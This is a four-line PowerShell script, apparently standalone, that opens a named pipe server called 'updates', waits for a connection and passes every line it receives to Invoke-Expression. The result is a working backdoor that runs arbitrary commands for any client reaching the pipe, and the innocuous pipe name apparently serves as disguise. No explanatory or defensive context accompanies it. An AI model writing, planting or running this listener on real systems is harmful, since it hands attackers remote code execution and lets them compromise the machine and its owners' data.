$pipe = New-Object System.IO.Pipes.NamedPipeServerStream('updates')
$pipe.WaitForConnection()
$reader = New-Object IO.StreamReader($pipe)
while ($null -ne ($line = $reader.ReadLine())) { Invoke-Expression $line }
